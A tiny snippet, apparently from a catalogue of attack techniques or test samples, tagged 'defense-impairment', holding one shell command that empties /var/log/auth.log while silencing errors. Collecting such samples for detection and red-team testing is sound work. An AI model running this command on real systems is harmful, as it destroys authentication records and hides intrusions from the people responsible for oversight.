# tactic: defense-impairment
# empty the auth log with a redirection
: > /var/log/auth.log 2>/dev/null; true
